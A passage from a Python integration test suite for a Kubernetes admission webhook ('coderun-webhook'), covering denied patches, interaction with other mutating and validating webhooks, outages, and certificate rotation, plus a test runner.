        result = kubectl("patch", "coderun", run["metadata"]["name"], "-n", NS, "--type", "merge",
                         "-p", '{"spec":{"github":{"appName":"hacker"}}}', check=False)
        self.assertDenied(result, "Error: Invalid github-app 'hacker'. Must be one of: " + APPS)


# ----- reinvocation next to another mutating webhook -----

class TestWebhook(http.server.BaseHTTPRequestHandler):
    """Another team's webhook beside coderun-webhook, served by the test on loopback with the dev
    certificate: /label adds a label (mutating), /deny refuses everything (validating). Records
    every request it is sent."""
    calls = []

    def do_POST(self):  # noqa: N802
        review = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        request = review["request"]
        path = self.path.split("?")[0]  # the API server adds ?timeout=5s
        TestWebhook.calls.append((path, request))
        response = {"uid": request["uid"], "allowed": True}
        if path == "/label":
            patch = []
            if request["object"].get("metadata", {}).get("labels") is None:
                patch.append({"op": "add", "path": "/metadata/labels", "value": {}})
            patch.append({"op": "add", "path": "/metadata/labels/cluster-test~1labeled", "value": "yes"})
            response.update(patchType="JSONPatch", patch=base64.b64encode(json.dumps(patch).encode()).decode())
        elif path == "/deny":
            response.update(allowed=False, status={"code": 403, "message": "refused by the test's other webhook"})
        body = json.dumps({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
                           "response": response}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


class OtherWebhook:
    """Context manager: TestWebhook served on 127.0.0.1, and one webhook configuration of `kind`
    named `config_name` calling `path` for Workflows in namespace `ns`; both removed afterwards."""

    def __init__(self, kind, config_name, path, ns):
        self.kind, self.config_name, self.path, self.ns = kind, config_name, path, ns

    def __enter__(self):
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), TestWebhook)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(os.path.join(CLUSTER.certs, "tls.crt"), os.path.join(CLUSTER.certs, "tls.key"))
        self.server.socket = context.wrap_socket(self.server.socket, server_side=True)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        hook = {
            "name": "other.cluster-test.taskmaster.io", "admissionReviewVersions": ["v1"],
            "clientConfig": {"url": "https://127.0.0.1:%d%s" % (self.server.server_address[1], self.path),
                             "caBundle": base64.b64encode(CLUSTER.ca_pem).decode()},
            "rules": [{"apiGroups": ["argoproj.io"], "apiVersions": ["v1alpha1"], "operations": ["CREATE"],
                       "resources": ["workflows"], "scope": "Namespaced"}],
            "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": self.ns}},
            "failurePolicy": "Fail", "sideEffects": "None", "timeoutSeconds": 5}
        if self.kind == "MutatingWebhookConfiguration":
            hook["reinvocationPolicy"] = "Never"
        config = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": self.kind,
                  "metadata": {"name": self.config_name}, "webhooks": [hook]}
        kubectl("apply", "-f", "-", input=json.dumps(config))
        return self

    def __exit__(self, *exc):
        kubectl("delete", self.kind.lower(), self.config_name, check=False)
        self.server.shutdown()
        self.server.server_close()

    def create_through(self, params, prefix):
        """Creates a Workflow (a fresh name each attempt) once the API server calls this webhook
        (a configuration takes effect within a second or so); returns (name, Result)."""
        def attempt():
            name = unique(prefix)
            before = len(TestWebhook.calls)
            result = create(workflow(params, name=name, ns=self.ns), check=False)
            return (name, result) if len(TestWebhook.calls) > before else None
        return wait_for(attempt, 30, "the API server calling the test's %s webhook" % self.path)


class T07OtherWebhooks(ClusterTest):
    def test_second_mutation_patches_nothing(self):
        """Reinvocation: another mutating webhook after coderun-webhook (configurations are called
        in name order) changes the object, so coderun-webhook is called again (IfNeeded) and must
        change nothing (audit: round 1, mutated false)."""
        with OtherWebhook("MutatingWebhookConfiguration", "zz-cluster-test-labeler", "/label", "reinvoke") as other:
            name, result = other.create_through([("github-app", "rex"), ("event", event_text("pull_request.opened"))],
                                                "reinvoked")
            self.assertEqual(result.returncode, 0, result)
            stored = get("workflow", name, ns="reinvoke")
            self.assertEqual(stored["metadata"]["labels"]["cluster-test/labeled"], "yes")
            self.assertFilled(parameters(stored), "pull_request.opened")
            annotations = audit_for("workflows", name, ns="reinvoke")[0]["annotations"]
            rounds = {k: json.loads(v) for k, v in annotations.items()
                      if k.startswith("mutation.webhook.admission.k8s.io/")}
            ours = [v for k, v in sorted(rounds.items()) if v["configuration"] == "coderun-webhook"]
            self.assertEqual([r["mutated"] for r in ours], [True, False], rounds)
            self.assertEqual([r["webhook"] for r in ours], ["workflows.mutate.coderun-webhook.taskmaster.io"] * 2)

    def test_refused_by_a_later_webhook_gets_no_event(self):
        """(issue 13, 3) coderun-webhook admits, another validating webhook refuses: the object is
        never stored, so no Mutated Event (the webhook looks for the stored object for 5 s)."""
        with OtherWebhook("ValidatingWebhookConfiguration", "zz-cluster-test-denier", "/deny", "reinvoke") as other:
            name, result = other.create_through([("github-app", "rex"), ("repoFullName", "acme/x")], "refused")
            self.assertNotEqual(result.returncode, 0, result)
            self.assertIn("refused by the test's other webhook", result.stderr)
            entry = audit_for("workflows", name, ns="reinvoke")[-1]
            self.assertEqual(entry["annotations"].get("workflows.validate.coderun-webhook.taskmaster.io/decision"),
                             "allowed", entry["annotations"])
        assert_stays_empty(self, lambda: [e for e in events_v1("reinvoke") if e["regarding"]["name"] == name],
                           ns="reinvoke", quiet=8)


# ----- the webhook down, the certificate rotated -----

class T08Availability(ClusterTest):
    def test_webhook_down_refuses_then_serves_again(self):
        port = CLUSTER.webhook_port
        self.assertEqual(CLUSTER.stop_webhook(), 0)
        try:
            result = create(workflow([("github-app", "rex"), ("repoFullName", "acme/x")]), check=False)
            self.assertNotEqual(result.returncode, 0, result)
            self.assertIn('failed calling webhook "workflows.mutate.coderun-webhook.taskmaster.io"', result.stderr)
            self.assertIn("https://127.0.0.1:%d/mutate" % port, result.stderr)
            self.assertIn("connection refused", result.stderr)
        finally:
            CLUSTER.start_webhook(port=port)
        result = wait_for(lambda: (lambda r: r if r.returncode == 0 else None)(
            create(workflow([("github-app", "rex"), ("repoFullName", "acme/x")]), check=False)),
            60, "a create once the webhook is back")
        self.assertEqual(parameters(result.json())["owner"], "acme")

    def test_certificate_rotated_while_creating(self):
        before = CLUSTER.served_certificate()
        failures, created = [], []
        stop = threading.Event()

        def loop():
            while not stop.is_set():
                r = create(workflow([("github-app", "qa"), ("repoFullName", "acme/rotate")]), check=False)
                (created if r.returncode == 0 else failures).append(r)
        threads = [threading.Thread(target=loop) for _ in range(2)]
        for t in threads:
            t.start()
        try:
            wait_for(lambda: len(created) >= 3, 60, "creates before the rotation")
            CLUSTER.make_certs("--renew")
            wait_for(lambda: CLUSTER.served_certificate() != before, 30, "the renewed certificate served")
            mark = len(created)
            wait_for(lambda: len(created) >= mark + 4, 60, "creates after the rotation")
        finally:
            stop.set()
            for t in threads:
                t.join()
        self.assertEqual(failures, [])
        self.assertIn('coderun_webhook_certificate_reloads_total{result="success"}', CLUSTER.metrics())


SHORT = [
    "T01Events.test_every_event_type_fills_the_workflow",
    "T01Events.test_workflow_plumbing_none_by_policy",
    "T01Events.test_argo_events_envelopes",
    "T01Events.test_user_parameters_win_and_warn",
    "T02Runs.test_coderun_filled_from_its_event",
    "T02Runs.test_crd_does_not_require_repo",
    "T03Denials.test_seed_messages_verbatim_from_kubectl",
    "T04Audit.test_mutated_event_names_the_stored_object",
    "T04Audit.test_audit_annotations_of_both_passes",
    "T04Audit.test_dry_run_posts_no_event",
    "T04Audit.test_already_exists_gets_no_second_event",
    "T05PromptsAndTemplates.test_system_prompt_path_is_the_agent_pods_path",
    "T06Updates.test_patch_or_replace_to_a_foreign_app_or_unsafe_ref_is_refused",
    "T06Updates.test_apply_twice_keeps_the_filled_parameters",
    "T06Updates.test_replacing_the_event_is_refused",
    "T08Availability.test_webhook_down_refuses_then_serves_again",
]


def main():
    argv = [a for a in sys.argv[1:] if a != "--short"]
    short = "--short" in sys.argv[1:]
    try:
        cluster.check_prerequisites(os.environ.get("CODERUN_CLUSTER_CACHE") or os.path.dirname(cluster.BIN))
    except cluster.Skip as reason:
        print("skipped: %s" % reason)
        sys.exit(cluster.SKIP_CODE)
    except RuntimeError as error:
        print("error: %s" % error)
        sys.exit(1)
    started = time.monotonic()
    module = sys.modules[__name__]
    names = [a for a in argv if not a.startswith("-")]
    if short and not names:
        names = SHORT
    loader = unittest.TestLoader()
    suite = loader.loadTestsFromNames(names, module) if names else loader.loadTestsFromModule(module)
    verbosity = 2 if ("-v" in argv or short) else 1
    result = unittest.TextTestRunner(verbosity=verbosity).run(suite)
    print("cluster suite: %d tests in %.1f s%s" % (result.testsRun, time.monotonic() - started,
                                                 " (short)" if short else ""))
    sys.exit(0 if result.wasSuccessful() else 1)


if __name__ == "__main__":
    main()
